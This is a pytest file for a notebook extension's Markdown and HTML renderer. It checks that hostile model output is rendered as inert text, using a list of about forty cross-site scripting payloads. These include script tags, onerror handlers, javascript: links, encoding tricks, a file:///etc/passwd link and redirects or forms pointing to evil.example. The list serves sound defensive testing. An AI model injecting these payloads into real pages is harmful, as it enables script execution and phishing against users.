"""Hostile model output: whatever it holds, the HTML is text, a few plain tags and links that cannot do harm."""

from __future__ import annotations

import time
from urllib.parse import urlparse

import pytest

from modelhub.nbext.answer import MIME, bundle, value
from modelhub.nbext.markdown import ATTRIBUTES, TAGS, displayable, to_html
from tests.nbext.answers import Page, entry, finished

HOSTILE = [
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=key><button data-commandlinker-command=x>go</button></form>",
    "<object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](http://evil.example/x"onerror="alert(1))',
    '[x](http://a.example "t\\" onmouseover=alert(1) \\"")',
    "[a](http://e.example/\"onclick=alert(1)//)",
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "~~~ onclick=alert(1)\nx\n~~~",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]><?php x ?><!DOCTYPE html>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "# <b onclick=alert(1)>h</b>\n\n* <video src=x onerror=alert(1)>",
    "\x00<\x00script>alert(1)</script>",
    "\ud800<script>\udfff",
]  # fmt: skip


def harmless(source: str, tags: set[str], attributes: set[str]) -> Page:
    """The page of `source`, which holds none but these tags and attributes and leads nowhere but to web and mail."""
    page = Page(source)
    assert set(page.tags) <= tags, page.tags
    assert {name for _, name, _ in page.attributes} <= attributes, page.attributes
    assert not page.other
    for href in page.values("href"):
        assert urlparse(href).scheme in {"http", "https", "mailto", ""}, href
    source.encode("utf-8")
    return page


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_markdown(text: str) -> None:
    """Rendered Markdown has tags of the allow-list only, no handlers, no styles, no images."""
    allowed = {name for names in ATTRIBUTES.values() for name in names} | {"rel"}
    page = harmless(to_html(text), TAGS, allowed)
    assert not {"script", "img", "style", "iframe", "svg"} & set(page.tags)


@pytest.mark.parametrize("form", ["md", "text", "json", "code"])
def test_the_whole_bundle(form: str) -> None:
    """In every format all of it together is harmless, in the text, the notes and the warnings."""
    everything = "\n\n".join(HOSTILE)
    data, _ = bundle(finished(everything, warnings=HOSTILE, notes=HOSTILE), form)
    page = harmless(data["text/html"], TAGS | {"div"}, {"href", "title", "start", "rel", "style"})
    assert page.values("style") <= {"opacity:.6;font-size:85%", "text-align:left"}
    assert "\x00" not in data["text/plain"]
    str(data).encode("utf-8")


def test_the_token_view() -> None:
    """Tokens and alternatives are text, however they are written; styles are ours alone."""
    tokens = [entry(t, -0.1 * i, [(t, -0.1), ('"><script>', -3.0)]) for i, t in enumerate(HOSTILE)]
    data, _ = bundle(finished("x", logprobs=True, top_logprobs=2, entries=tokens))
    page = harmless(
        data["text/html"],
        {"div", "span", "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "code"},
        {"style", "title"},
    )
    ours = ("background:#", "white-space:", "opacity:", "text-align:left")
    assert all(style.startswith(ours) for style in page.values("style"))
    assert "<script>alert(1)</script>" in page.text


def test_links_stay_and_images_become_links() -> None:
    """What is harmless keeps working: links to web and mail; an image is a link to it, under its name."""
    page = harmless(
        to_html("[a](https://a.example) <mailto:b@c.example> ![a *cat*](http://d.example/cat.png)"),
        TAGS,
        {"href", "rel"},
    )
    assert page.values("href") == {"https://a.example", "mailto:b@c.example", "http://d.example/cat.png"}
    assert "cat" in page.text


def test_ordinary_markdown_is_rendered() -> None:
    """Headings, lists, tables, code and emphasis arrive as such; < in code is text."""
    page = Page(to_html("# h\n\n3. *a* **b** ~~c~~\n\n> q\n\n```py\nx < 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n"))
    assert {"h1", "ol", "li", "em", "strong", "s", "blockquote", "pre", "code", "table", "th", "td"} <= set(page.tags)
    assert page.values("start") == {"3"}
    assert "x < 1" in page.text
    assert "<b>as it was written</b>" in Page(to_html("HTML <b>as it was written</b>")).text


PLAIN = '<span class="mathjax_ignore tex2jax_ignore">$</span>'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("costs $5 and $7", f"costs {PLAIN}5 and {PLAIN}7"),
        ("costs $5\nand $7", f"costs {PLAIN}5\nand {PLAIN}7"),
        ("$5/$7, *$8*", f"{PLAIN}5/{PLAIN}7, <em>{PLAIN}8</em>"),
        (r"\$5 or 7\$", f"{PLAIN}5 or 7{PLAIN}"),
        ("$5 where $x_1$ and $$ y $$", f"{PLAIN}5 where $x_1$ and $$ y $$"),
        ("`$5 and $7`", "<code>$5 and $7</code>"),
        ("[a](https://a.example/$5)", '<a href="https://a.example/$5" rel="noopener noreferrer">a</a>'),
        ("\x01", ""),
    ],
)
def test_prices_are_no_formulas(text: str, shown: str) -> None:
    """A dollar that begins or ends no formula is fenced off from what sets formulas; those of formulas are not."""
    assert to_html(text) == (f"<p>{shown}</p>" if shown else "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x00b\x07c\x1b[31md\x7fe\x9bf", "abc[31mdef"),
        ("a\u202eb\u2066c\u200fd\ufeffe", "abcde"),
        ("a\tb\nc", "a\tb\nc"),
        ("\ud83d half \udc00", "\ufffd half \ufffd"),
        ("😀 é 数 עברית", "😀 é 数 עברית"),
    ],
)
def test_what_cannot_be_seen_is_not_displayed(text: str, shown: str) -> None:
    """Controls and bidi marks are taken out of what is shown and kept in the record; half characters in neither."""
    assert displayable(text) == shown
    data, _ = bundle(finished(text))
    assert data["text/plain"] == shown
    recorded = data[MIME]["choices"][0]["text"]
    recorded.encode("utf-8")  # or the front end could not be told
    assert recorded == text or "\ufffd" in shown


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "*a " * 20_000, "> " * 5_000 + "x", "<" * 50_000, "`" * 15_000, "![" * 5_000, "|a" * 10_000,
     "```\n" * 5_000, "- " * 3_000 + "x"],
    ids=lambda t: t[:4],
)  # fmt: skip
def test_no_answer_takes_long_to_show(text: str) -> None:
    """Output made to trap a parser is shown within seconds, as Markdown and as code."""
    began = time.perf_counter()
    for form in ("md", "code"):
        bundle(finished(text), form)
    assert time.perf_counter() - began < 5


def test_nested_brackets_are_no_json() -> None:
    """With --format json, brackets nested deeper than Python reads are shown and kept as text."""
    response = finished("[" * 20_000)
    assert bundle(response, "json")[0]["text/html"].startswith("<pre>[[[")
    assert value(response, "json") == "[" * 20_000
